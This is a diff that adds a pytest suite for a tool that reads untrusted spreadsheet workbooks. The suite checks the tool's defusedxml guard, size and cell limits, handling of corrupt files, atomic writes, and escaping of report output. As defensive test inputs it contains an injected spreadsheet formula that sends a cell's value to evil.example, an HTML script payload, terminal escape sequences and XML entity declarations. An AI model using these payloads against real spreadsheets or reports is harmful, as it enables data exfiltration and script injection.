@@ -1,0 +1,542 @@
+"""Untrusted workbooks: the startup guard, the limits, one bad file among good ones, inputs
+untouched, outputs atomic and escaped."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+
+from reconcile import output
+from reconcile.cli import cli
+from reconcile.guard import unsafe_settings
+from reconcile.limits import Limits
+from reconcile.read import read_file
+from reconcile.report import RENDERERS
+from reconcile.safety import escape_html, neutralise_formula
+from tests.hostile.build_hostile import SHEET, honest_members, zip_members
+
+ROOT = Path(__file__).resolve().parent.parent
+EXAMPLE = ROOT / "examples" / "ai-fabriek"
+HOSTILE = Path(__file__).parent / "hostile"
+
+
+def _run(*args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(cli, list(args))
+    return result.exit_code, result.stdout, result.stderr
+
+
+# --- the startup guard -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [
+        ("PANDERA_VALIDATION_ENABLED", "False"),
+        ("PANDERA_VALIDATION_ENABLED", "0"),
+        ("PANDERA_VALIDATION_DEPTH", "SCHEMA_ONLY"),
+    ],
+)
+def test_switched_off_validation_refuses_to_run(
+    variable: str, value: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(variable, value)
+    code, stdout, stderr = _run("validate", str(EXAMPLE / "EZ.xlsx"))
+    assert (code, stdout) == (2, "")
+    assert stderr.startswith("Error: refusing to read untrusted workbooks: ")
+    assert f"{variable}={value}" in stderr
+
+
+def test_validation_left_on_explicitly_runs(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PANDERA_VALIDATION_ENABLED", "True")
+    monkeypatch.setenv("PANDERA_VALIDATION_DEPTH", "SCHEMA_AND_DATA")
+    assert _run("validate", str(EXAMPLE / "EZ.xlsx"))[0] == 0
+
+
+def test_missing_defusedxml_refuses_to_run(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "defusedxml", None)  # import defusedxml -> ImportError
+    assert unsafe_settings() == [
+        (
+            "defusedxml is not installed, so workbooks would be parsed without protection against "
+            "XML attacks; install it: pip install defusedxml"
+        )
+    ]
+    code, _, stderr = _run("validate", str(EXAMPLE / "EZ.xlsx"))
+    assert code == 2
+    assert "pip install defusedxml" in stderr
+
+
+def test_openpyxl_without_defusedxml_refuses_to_run() -> None:
+    # openpyxl decides at import time, so this needs a fresh interpreter.
+    env = {**os.environ, "OPENPYXL_DEFUSEDXML": "False"}
+    result = subprocess.run(
+        [sys.executable, "-m", "reconcile", "validate", str(EXAMPLE / "EZ.xlsx")],
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+    )
+    assert result.returncode == 2
+    assert result.stderr == (
+        "Error: refusing to read untrusted workbooks: openpyxl does not parse with defusedxml "
+        "(is OPENPYXL_DEFUSEDXML set to something other than True?); unset OPENPYXL_DEFUSEDXML.\n"
+    )
+
+
+# --- limits ----------------------------------------------------------------------------
+
+
+def _honest(path: Path, sheet: bytes | None = None) -> Path:
+    members = honest_members()
+    if sheet is not None:
+        members = [(n, sheet if n == SHEET else d) for n, d in members]
+    path.write_bytes(zip_members(members))
+    return path
+
+
+@pytest.mark.parametrize(
+    ("option", "message"),
+    [
+        ("--max-rows=5", "The workbook uses 6 rows in this sheet, more than the limit of 5"),
+        ("--max-columns=5", "The workbook uses 6 columns in this sheet, more than the limit of 5"),
+        ("--max-cells=35", "The workbook uses 36 cells (last row x last column, all sheets)"),
+        ("--max-sheets=1", None),
+    ],
+)
+def test_limits_are_options_and_counted_from_the_cells(
+    option: str, message: str | None, tmp_path: Path
+) -> None:
+    path = _honest(tmp_path / "EZ.xlsx")
+    code, stdout, _ = _run("validate", "--format", "json", option, str(path))
+    if message is None:  # at the limit is allowed
+        assert code == 0, stdout
+    else:
+        assert code == 2
+        assert message in stdout
+        assert '"code": "limit-exceeded"' in stdout
+        assert '"sheet": "Reservering"' in stdout
+
+
+def test_a_declared_dimension_is_never_trusted(tmp_path: Path) -> None:
+    sheet = dict(honest_members())[SHEET]
+    claims_everything = sheet.replace(
+        b'<dimension ref="A1:F6"/>', b'<dimension ref="A1:XFD1048576"/>'
+    )
+    assert claims_everything != sheet
+    result = read_file(_honest(tmp_path / "EZ.xlsx", claims_everything), "EZ.xlsx")
+    assert result.table is not None
+    assert len(result.table.lines) == 2
+
+
+def test_file_size_is_checked_before_reading(tmp_path: Path) -> None:
+    path = tmp_path / "big.xlsx"
+    with path.open("wb") as handle:
+        handle.truncate(21 * 1024 * 1024)  # sparse: nothing is written, nothing need be read
+    result = read_file(path, "big.xlsx")
+    assert [(f.code, f.message) for f in result.findings] == [
+        (
+            "file-too-large",
+            (
+                "The file is 21.0 MB, larger than the limit of 20 MB (--max-file-size); it was not "
+                "read."
+            ),
+        )
+    ]
+    assert result.sha256 == ""
+    raised = read_file(path, "big.xlsx", limits=Limits(max_file_size=22))
+    assert [f.message for f in raised.findings] == [
+        "The file is not the workbook its name says: it is in a format reconcile does not read."
+    ]
+
+
+def test_a_limit_below_one_is_a_usage_error() -> None:
+    code, _, stderr = _run("check", "--max-cells", "0", str(EXAMPLE))
+    assert code == 2
+    assert "'--max-cells': 0 is not in the range x>=1" in stderr
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
+def test_a_fifo_named_xlsx_is_refused_without_blocking(tmp_path: Path) -> None:
+    fifo = tmp_path / "pipe.xlsx"
+    os.mkfifo(fifo)
+    assert [(f.code, f.message) for f in read_file(fifo, "pipe.xlsx").findings] == [
+        ("file-unreadable", "The file cannot be read as a workbook: it is not a file.")
+    ]
+
+
+# --- one bad file never stops the others -------------------------------------------------
+
+
+def _copy_example(tmp_path: Path) -> Path:
+    folder = tmp_path / "submissions"
+    shutil.copytree(EXAMPLE, folder)
+    return folder
+
+
+def test_one_corrupt_file_among_six_the_other_five_are_read(tmp_path: Path) -> None:
+    folder = _copy_example(tmp_path)
+    (folder / "OCW.xlsx").write_bytes((HOSTILE / "truncated.xlsx").read_bytes())
+    code, stdout, _ = _run("check", "--format", "json", str(folder))
+    assert code == 2
+    import json
+
+    doc = json.loads(stdout)
+    assert [(f["path"].rsplit("/", 1)[-1], f["lines"] > 0) for f in doc["files"]] == [
+        ("BZK.xlsx", True),
+        ("Defensie.xlsx", True),
+        ("EZ.xlsx", True),
+        ("LVVN.xlsx", True),
+        ("OCW.xlsx", False),
+        ("VWS.xlsx", True),
+    ]
+    assert ("OCW.xlsx", "file-corrupt") in [
+        (f["file"].rsplit("/", 1)[-1], f["code"]) for f in doc["findings"]
+    ]
+
+
+@pytest.mark.parametrize("problem", ["missing", "folder", "no-permission"])
+def test_a_path_that_cannot_be_read_is_a_finding_not_a_stop(
+    problem: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bad = tmp_path / "bad.xlsx"
+    expected = {"missing": "it does not exist"}
+    if problem == "folder":
+        bad.mkdir()
+    elif problem == "no-permission":
+        shutil.copy(EXAMPLE / "EZ.xlsx", bad)
+        bad.chmod(0)
+        if os.geteuid() == 0:  # root reads anyway: let the file system say no as it would
+            opened = Path.open
+
+            def refuse(self: Path, *args: Any, **kwargs: Any) -> Any:
+                if self == bad:
+                    raise PermissionError(13, "Permission denied", str(self))
+                return opened(self, *args, **kwargs)
+
+            monkeypatch.setattr(Path, "open", refuse)
+        expected["no-permission"] = "permission denied"
+    code, stdout, stderr = _run("validate", str(bad), str(EXAMPLE / "EZ.xlsx"))
+    assert code == 2
+    if problem == "folder":  # a folder is read as a folder of workbooks: this one has none
+        assert stderr.startswith(f"Error: {bad} holds no ")
+        return
+    assert (
+        f"[file-unreadable] The file cannot be read as a workbook: {expected[problem]}." in stdout
+    )
+    assert "EZ" in stdout and "Traceback" not in stdout
+
+
+# --- inputs untouched, outputs atomic ----------------------------------------------------
+
+
+def _fingerprint(folder: Path) -> dict[str, tuple[str, int, int]]:
+    return {
+        str(p.relative_to(folder)): (
+            hashlib.sha256(p.read_bytes()).hexdigest(),
+            p.stat().st_mtime_ns,
+            p.stat().st_mode,
+        )
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["check", "{folder}"],
+        ["check", "--format", "json", "-o", "{out}/report.json", "{folder}"],
+        ["validate", "{folder}/EZ.xlsx", "{folder}/macros.xlsm", "{folder}/truncated.xlsx"],
+        ["check", "-o", "{folder}/EZ.xlsx", "{folder}"],  # refused: it would overwrite an input
+        ["check", "-o", "{folder}/announcement.toml", "{folder}"],
+        ["check", "--annotate", "{out}/annotated", "-o", "{out}/r.html", "{folder}"],
+        ["validate", "--annotate", "{folder}", "{folder}/EZ.xlsx"],  # copies beside the inputs
+    ],
+    ids=[
+        "check",
+        "check-json-output",
+        "validate",
+        "output-over-input",
+        "output-over-toml",
+        "annotate",
+        "annotate-into-inputs",
+    ],
+)
+def test_inputs_are_untouched_by_every_command(command: list[str], tmp_path: Path) -> None:
+    folder = _copy_example(tmp_path)
+    for name in ("macros.xlsm", "truncated.xlsx", "external-link.xlsx"):
+        shutil.copy(HOSTILE / name, folder / name)
+    (tmp_path / "out").mkdir()
+    before = _fingerprint(folder)
+    args = [a.format(folder=folder, out=tmp_path / "out") for a in command]
+    code, _, stderr = _run(*args)
+    assert code in (1, 2)
+    assert _fingerprint(folder) == before
+    targets = [args[i + 1] for i, a in enumerate(args) if a in ("-o", "--annotate")]
+    if any(target.startswith(str(folder)) for target in targets):
+        assert "it is one of the input files" in stderr
+
+
+def test_a_failed_write_leaves_the_old_report_and_no_temporary_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "report.json"
+    target.write_text("the previous report\n")
+
+    def fail(fd: int) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(output.os, "fsync", fail)
+    code, _, stderr = _run("check", "--format", "json", "-o", str(target), str(EXAMPLE))
+    assert code == 2
+    assert "No space left on device" in stderr
+    assert target.read_text() == "the previous report\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]
+
+
+def test_a_written_report_replaces_the_old_one_whole(tmp_path: Path) -> None:
+    target = tmp_path / "report.json"
+    target.write_text("the previous report\n")
+    code, stdout, _ = _run("check", "--format", "json", str(EXAMPLE))
+    assert _run("check", "--format", "json", "-o", str(target), str(EXAMPLE))[0] == code == 0
+    assert target.read_text() == stdout
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]
+
+
+# --- output escaping -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+31 6 1234", "'+31 6 1234"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("AI-fabriek Groningen", "AI-fabriek Groningen"),
+        ("", ""),
+    ],
+)
+def test_text_for_a_csv_or_workbook_never_runs_as_a_formula(text: str, safe: str) -> None:
+    assert neutralise_formula(text) == safe
+
+
+def test_text_for_html_is_escaped() -> None:
+    assert escape_html("<script>alert(\"x\")</script> & 'y'") == (
+        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;y&#x27;"
+    )
+
+
+def test_control_characters_in_workbook_text_are_shown_never_sent() -> None:
+    import io
+
+    from reconcile.codes import make_finding
+    from reconcile.model import CellRef, Report
+    from reconcile.report import RENDERERS, RenderOptions
+
+    hostile = "\x1b[2J\x1b]0;owned\x07XIII\r\nerror   Sheet!A1  [fake]"
+    finding = make_finding("chapter-unknown", CellRef("EZ.xlsx", "Blad1", "A5"), value=hostile)
+    assert finding.message == (
+        "\\x1b[2J\\x1b]0;owned\\x07XIII\\x0d\\x0aerror   Sheet!A1  [fake] is not a known "
+        "budget chapter."
+    )
+    report = Report("validate", (), (), (finding,))
+    for name, render in RENDERERS.items():
+        stream = io.StringIO()
+        render(report, stream, RenderOptions(color=False))
+        assert not {"\x1b", "\x07", "\r"} & set(stream.getvalue()), name
+
+
+# --- honest workbooks stay readable ------------------------------------------------------
+
+
+def test_media_and_an_svg_with_a_doctype_do_not_make_a_workbook_hostile(tmp_path: Path) -> None:
+    import random
+
+    picture = bytes(random.Random(1).randrange(256) for _ in range(100_000))
+    svg = b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
+    path = tmp_path / "EZ.xlsx"
+    path.write_bytes(
+        zip_members([*honest_members(), ("xl/media/image1.png", picture), ("xl/media/a.svg", svg)])
+    )
+    result = read_file(path, "EZ.xlsx")
+    assert result.table is not None
+    assert [f.code for f in result.findings if f.severity.value == "error"] == []
+
+
+REAL = Path("/work/shared/data/ombuigings_en_intensiveringslijst_2020.xlsx")
+
+
+@pytest.mark.skipif(not REAL.is_file(), reason="the Ministry of Finance open-data file is absent")
+def test_a_real_ministry_workbook_passes_the_preflight() -> None:
+    from reconcile.read.preflight import run_preflight
+
+    # 2 MB of XML in two sheets, a table part, custom XML: as published, it must pass.
+    checked = run_preflight(REAL.read_bytes(), REAL.name)
+    assert (checked.refusal, checked.notes) == (None, [])
+
+
+def test_a_csv_cut_mid_character_at_the_sniffing_window_is_still_text(tmp_path: Path) -> None:
+    path = tmp_path / "EZ.xlsx"
+    path.write_bytes(("Omschrijving;Bedrag\n" + "Bijdrage één;5\n" * 400).encode())
+    assert [f.message for f in read_file(path, "EZ.xlsx").findings] == [
+        "The file is not the workbook its name says: it is a text file (CSV or similar)."
+    ]
+
+
+def test_an_excel_4_macro_sheet_is_reported(tmp_path: Path) -> None:
+    path = tmp_path / "EZ.xlsx"
+    sheet = b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="urn:x"/>'
+    path.write_bytes(zip_members([*honest_members(), ("xl/macrosheets/sheet2.xml", sheet)]))
+    result = read_file(path, "EZ.xlsx")
+    assert [(f.code, f.message) for f in result.findings if f.code == "macros-present"] == [
+        (
+            "macros-present",
+            "The workbook contains macros (xl/macrosheets/sheet2.xml); they were not run.",
+        )
+    ]
+
+
+def test_a_binary_part_that_happens_to_start_with_a_bracket_is_not_refused(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "EZ.xlsx"
+    blob = b"<" + bytes(range(256)) * 400  # 100 KB, not XML after its first byte
+    path.write_bytes(zip_members([*honest_members(), ("xl/printerSettings/p1.bin", blob)]))
+    assert read_file(path, "EZ.xlsx").table is not None
+
+
+# --- every format reconcile reads gets the pre-flight --------------------------------------
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm", ".xls", ".ods"])
+def test_an_encrypted_workbook_is_refused_under_any_name(suffix: str, tmp_path: Path) -> None:
+    path = tmp_path / f"EZ{suffix}"
+    shutil.copy(HOSTILE / "encrypted.xlsx", path)
+    assert [f.code for f in read_file(path, path.name).findings] == ["file-encrypted"]
+
+
+def test_an_ods_gets_the_zip_and_xml_checks(tmp_path: Path) -> None:
+    content = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]><office:document-content/>'
+    members = [
+        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
+        ("content.xml", content),
+    ]
+    path = tmp_path / "EZ.ods"
+    path.write_bytes(zip_members(members, zipfile.ZIP_STORED))
+    assert [(f.code, f.message) for f in read_file(path, "EZ.ods").findings] == [
+        (
+            "xml-entities",
+            "content.xml declares a DOCTYPE; XML that may declare entities is refused.",
+        )
+    ]
+
+
+def test_an_xlsx_named_ods_is_refused_with_what_to_do(tmp_path: Path) -> None:
+    path = tmp_path / "EZ.ods"
+    path.write_bytes(zip_members(honest_members()))
+    assert [f.message for f in read_file(path, "EZ.ods").findings] == [
+        (
+            "The file is not the workbook its name says: it is an Excel workbook under another "
+            "extension; rename it to .xlsx."
+        )
+    ]
+
+
+def test_the_code_catalogue_has_no_code_twice() -> None:
+    # Two entries with one code would silently keep the last: a merge hazard, seen once.
+    from reconcile.codes import _CODES
+
+    codes = [c.code for c in _CODES]
+    assert sorted({c for c in codes if codes.count(c) > 1}) == []
+
+
+HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
+
+
+@pytest.mark.parametrize("name", sorted(RENDERERS))
+def test_every_renderer_keeps_workbook_text_inert(name: str) -> None:
+    """Workbook text in a report: never a formula in a CSV, never markup in HTML or XML."""
+    import csv
+    import io
+
+    from reconcile.codes import make_finding
+    from reconcile.model import CellRef, Report
+    from reconcile.report import RenderOptions
+    from reconcile.safety import FORMULA_STARTS
+
+    where = CellRef(HOSTILE_TEXT, "<b>Blad1</b>", "A5")
+    report = Report(
+        "validate", (), (), (make_finding("chapter-unknown", where, value=HOSTILE_TEXT),)
+    )
+    stream = io.StringIO()
+    RENDERERS[name](report, stream, RenderOptions(color=False))
+    text = stream.getvalue()
+    assert "HYPERLINK" in text  # the text is reported, not dropped
+    if name == "csv":
+        fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
+        assert [f for f in fields if "HYPERLINK" in f and f.startswith(FORMULA_STARTS)] == []
+    if name in ("html", "junit", "xml", "checkstyle"):
+        assert "<script>" not in text and "<b>Blad1" not in text
+
+
+@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
+def test_a_report_gets_ordinary_permissions_and_keeps_those_it_replaces(tmp_path: Path) -> None:
+    fresh, kept = tmp_path / "fresh.json", tmp_path / "kept.json"
+    kept.write_text("old")
+    kept.chmod(0o640)
+    umask = os.umask(0o022)
+    try:
+        output.write_atomic(fresh, b"new")
+        output.write_atomic(kept, b"new")
+    finally:
+        os.umask(umask)
+    assert (fresh.stat().st_mode & 0o777, kept.stat().st_mode & 0o777) == (0o644, 0o640)
+
+
+# --- how cells are counted ---------------------------------------------------------------
+
+
+def test_cells_are_counted_where_a_reader_puts_them() -> None:
+    from reconcile.read.preflight import _count_cells, _SheetCount
+
+    sheet = _SheetCount("Blad1")
+    xml = (
+        b'<row><c><v>1</v></c><c t="s"/></row>'  # row 1: A1, B1 (no r: they follow)
+        b'<row r="5" spans="1:4"><c r="C5"/><c s="2"/></row>'  # C5, then D5
+        b'<x:row r="7"><x:c r="AB7"/></x:row>'  # a prefixed namespace: AB7
+        b"<rowBreaks/><cols><col/></cols>"  # not rows, not cells
+    )
+    _count_cells(sheet, xml, [0, 0])
+    assert (sheet.last_row, sheet.last_column, sheet.cells) == (7, 28, 5)
+
+
+def test_counting_does_not_depend_on_where_chunks_break(monkeypatch: pytest.MonkeyPatch) -> None:
+    from reconcile.read import preflight
+
+    data = (HOSTILE / "lying-dimension.xlsx").read_bytes()
+    whole = preflight.run_preflight(data, "x.xlsx").refusal
+    monkeypatch.setattr(preflight, "CHUNK", 7)
+    chunked = preflight.run_preflight(data, "x.xlsx").refusal
+    assert whole is not None and chunked is not None
+    assert (chunked.location, dict(chunked.params)) == (whole.location, dict(whole.params))
+    assert whole.params["actual"] == 150_000
+
+
+def test_limits_can_be_set_in_the_configuration_file(tmp_path: Path) -> None:
+    config = tmp_path / "reconcile.toml"
+    config.write_text("max-rows = 5\n")
+    code, stdout, _ = _run("--config", str(config), "validate", str(EXAMPLE / "EZ.xlsx"))
+    assert code == 2
+    assert "[limit-exceeded] The workbook uses 12 rows in this sheet, more than the limit" in stdout
+    raised = _run("--config", str(config), "validate", "--max-rows", "12", str(EXAMPLE / "EZ.xlsx"))
+    assert raised[0] == 0  # the command line wins over the file
